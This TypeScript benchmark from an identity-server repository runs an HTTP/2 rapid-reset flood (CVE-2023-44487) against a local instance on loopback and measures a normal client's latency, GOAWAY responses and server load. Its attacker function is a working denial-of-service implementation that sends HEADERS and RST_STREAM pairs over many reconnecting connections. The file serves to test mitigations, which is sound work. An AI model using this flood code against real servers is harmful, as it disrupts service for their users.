/**
 * HTTP/2 rapid reset (CVE-2023-44487) against the service's port (issue 47, item 9): attackers from
 * 127.0.0.2 keep BENCH_CONNECTIONS h2c connections, each sending HEADERS (a GET of BENCH_PATH)
 * followed at once by RST_STREAM(CANCEL) as fast as the socket takes them, and open a new
 * connection whenever the server closes one (all in a process of their own, as an attacker is
 * elsewhere); meanwhile a normal client on 127.0.0.1 reads an API resource over HTTP/1.1 keep-alive
 * (GET /management/v1/orgs/me with the admin token), one request at a time. Reported: the normal client's p50/p99/max alone and during the flood, and what the
 * attackers achieved (resets sent, connections opened, GOAWAYs received and their codes).
 *
 *   npx tsx bench/h2-rapid-reset.bench.ts        (from the repo root; SQLite, loopback only)
 *
 * Environment: BENCH_SECONDS=12 (flood), BENCH_BASELINE_SECONDS=5, BENCH_CONNECTIONS=40,
 * BENCH_PATH=/.well-known/openid-configuration (what each reset stream asks for), BENCH_KEEP=1.
 */
import { fork } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { Agent, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { HTTP2_PREFACE } from '../packages/server/src/transport/protocol-sniff.js';
import { FRAME, getHeaderBlock, h2Frame } from '../packages/server/test/support/h2c.js';
import { type Child, freePort, startChild } from './support/children.js';

const HERE = dirname(fileURLToPath(import.meta.url));
const SERVER_DIR = join(HERE, '..', 'packages', 'server');
const FLOOD_SECONDS = Number(process.env.BENCH_SECONDS ?? 12);
const BASELINE_SECONDS = Number(process.env.BENCH_BASELINE_SECONDS ?? 5);
const CONNECTIONS = Number(process.env.BENCH_CONNECTIONS ?? 40);
const PATH = process.env.BENCH_PATH ?? '/.well-known/openid-configuration';
const ATTACKER = '127.0.0.2';
/** HEADERS+RST_STREAM pairs per write. */
const BATCH = 64;

const quantile = (sorted: number[], q: number) => (sorted.length ? sorted[Math.min(sorted.length - 1, Math.ceil(q * sorted.length) - 1)] : NaN);

interface AttackStats {
  resets: number;
  connections: number;
  goaways: Record<string, number>;
}

/** One attacker connection after another until `until`: HEADERS + RST_STREAM pairs as fast as the socket takes them. */
async function attacker(port: number, until: () => boolean, stats: AttackStats): Promise<void> {
  const block = getHeaderBlock(PATH, `127.0.0.1:${port}`);
  const cancel = Buffer.from([0, 0, 0, 8]);
  while (!until()) {
    stats.connections++;
    const socket: Socket = connect({ port, host: '127.0.0.1', localAddress: ATTACKER });
    socket.setNoDelay(true);
    let closed = false;
    let received = Buffer.alloc(0);
    socket.on('error', () => undefined);
    socket.on('close', () => (closed = true));
    socket.on('data', (chunk: Buffer) => {
      received = Buffer.concat([received, chunk]);
      while (received.length >= 9) {
        const length = received.readUIntBE(0, 3);
        if (received.length < 9 + length) break;
        const type = received[3];
        const flags = received[4];
        if (type === FRAME.SETTINGS && (flags & 1) === 0) socket.write(h2Frame(FRAME.SETTINGS, 1, 0));
        if (type === FRAME.GOAWAY) {
          const code = String(received.readUInt32BE(9 + 4));
          stats.goaways[code] = (stats.goaways[code] ?? 0) + 1;
        }
        received = received.subarray(9 + length);
      }
    });
    // One listener each for the socket's life; `wake` is whoever waits now (the connection, a drain).
    let wake = () => undefined as void;
    socket.on('connect', () => wake());
    socket.on('drain', () => wake());
    socket.on('close', () => wake());
    await new Promise<void>((resolve) => (wake = resolve));
    if (closed) continue;
    socket.write(Buffer.concat([HTTP2_PREFACE, h2Frame(FRAME.SETTINGS, 0, 0)]));
    let streamId = 1;
    while (!closed && !until() && streamId < 2 ** 31 - 2 * BATCH) {
      const pairs: Buffer[] = [];
      for (let i = 0; i < BATCH; i++, streamId += 2) pairs.push(h2Frame(FRAME.HEADERS, 0x05, streamId, block), h2Frame(FRAME.RST_STREAM, 0, streamId, cancel));
      const flushed = socket.write(Buffer.concat(pairs));
      stats.resets += BATCH;
      await new Promise<void>((resolve) => (flushed ? setImmediate(resolve) : (wake = resolve)));
    }
    socket.destroy();
  }
}

/** The normal client: one GET at a time over HTTP/1.1 keep-alive until `until`; each answer's milliseconds. */
async function normalClient(child: Child, token: string, until: () => boolean, times: number[], failures: Record<string, number>): Promise<void> {
  const agent = new Agent({ keepAlive: true, maxSockets: 1 });
  const url = new URL('/management/v1/orgs/me', child.baseUrl);
  while (!until()) {
    const started = performance.now();
    const status = await new Promise<string>((resolve) => {
      const req = request(url, { agent, headers: { authorization: `Bearer ${token}` }, timeout: 10_000 }, (res) => {
        res.resume();
        res.on('end', () => resolve(String(res.statusCode)));
      });
      req.on('timeout', () => req.destroy(new Error('timeout')));
      req.on('error', (error) => resolve(error.message));
      req.end();
    });
    if (status === '200') times.push(performance.now() - started);
    else failures[status] = (failures[status] ?? 0) + 1;
  }
  agent.destroy();
}

async function main() {
  const work = mkdtempSync(join(tmpdir(), 'identity-rapid-reset-'));
  const port = await freePort();
  const patFile = join(work, 'admin.pat');
  const server = await startChild({
    args: ['--import', 'tsx', 'src/main.ts'],
    cwd: SERVER_DIR,
    env: {
      PORT: String(port),
      HOST: '127.0.0.1',
      EXTERNAL_URL: `http://127.0.0.1:${port}`,
      DATABASE_URL: join(work, 'identity.db'),
      ADMIN_PAT_FILE: patFile,
      LOG_LEVEL: 'warn',
      ENCRYPTION_KEY_FILE: join(work, 'encryption.key'),
    },
    port,
    readyPath: '/readyz',
    logFile: join(work, 'server.log'),
  });
  try {
    const token = readFileSync(patFile, 'utf8').trim();
    const failures: Record<string, number> = {};
    let end = Date.now() + 2_000;
    await normalClient(server, token, () => Date.now() > end, [], failures); // warm-up
    const baseline: number[] = [];
    end = Date.now() + BASELINE_SECONDS * 1000;
    await normalClient(server, token, () => Date.now() > end, baseline, failures);

    const stats: AttackStats = { resets: 0, connections: 0, goaways: {} };
    const flooded: number[] = [];
    end = Date.now() + FLOOD_SECONDS * 1000;
    const over = () => Date.now() > end;
    const cpuBefore = server.cpuSeconds() ?? NaN;
    const started = performance.now();
    const attackers = fork(fileURLToPath(import.meta.url), [], { execArgv: ['--import', 'tsx'], env: { ...process.env, BENCH_ROLE: 'attacker', BENCH_PORT: String(port), BENCH_UNTIL: String(end) } });
    const attacked = new Promise<void>((resolve) => attackers.once('message', (message: AttackStats) => resolve(void Object.assign(stats, message))));
    await new Promise((resolve) => setTimeout(resolve, 1_000)); // the flood takes hold first
    await Promise.all([attacked, normalClient(server, token, over, flooded, failures)]);
    const cores = ((server.cpuSeconds() ?? NaN) - cpuBefore) / ((performance.now() - started) / 1000);
    const log = readFileSync(join(work, 'server.log'), 'utf8');
    const logged = log.split('\n').filter((line) => line.includes('rapid reset')).length;

    const ms = (v: number) => (Number.isFinite(v) ? v.toFixed(v < 10 ? 1 : 0) : '-');
    const base = baseline.sort((a, b) => a - b);
    const att = flooded.sort((a, b) => a - b);
    const goaways =
      Object.entries(stats.goaways)
        .map(([code, n]) => `${n}× code ${code}`)
        .join(', ') || 'none';
    console.log(`\n${CONNECTIONS} attacker connections from ${ATTACKER} (reconnecting when closed), HEADERS GET ${PATH} + RST_STREAM for ${FLOOD_SECONDS} s`);
    console.log(
      '| normal client alone p50 / p99 / max ms | during the flood p50 / p99 / max ms | requests during | failed | resets sent | connections opened | GOAWAYs | log lines | server cores busy |',
    );
    console.log('| ---: | ---: | ---: | --- | ---: | ---: | --- | ---: | ---: |');
    console.log(
      `| ${ms(quantile(base, 0.5))} / ${ms(quantile(base, 0.99))} / ${ms(base.at(-1) ?? NaN)} | ${ms(quantile(att, 0.5))} / ${ms(quantile(att, 0.99))} / ${ms(att.at(-1) ?? NaN)} | ${att.length} | ${JSON.stringify(failures)} | ${stats.resets} | ${stats.connections} | ${goaways} | ${logged} | ${cores.toFixed(2)} |`,
    );
  } finally {
    await server.stop();
    if (!process.env.BENCH_KEEP) rmSync(work, { recursive: true, force: true });
  }
}

/** The attackers' process: the flood until BENCH_UNTIL, then its figures to the parent. */
async function attackers() {
  const until = Number(process.env.BENCH_UNTIL);
  const stats: AttackStats = { resets: 0, connections: 0, goaways: {} };
  await Promise.all(Array.from({ length: CONNECTIONS }, () => attacker(Number(process.env.BENCH_PORT), () => Date.now() > until, stats)));
  process.send!(stats, () => process.exit(0));
}

(process.env.BENCH_ROLE === 'attacker' ? attackers() : main()).catch((error) => {
  console.error(error);
  process.exit(1);
});
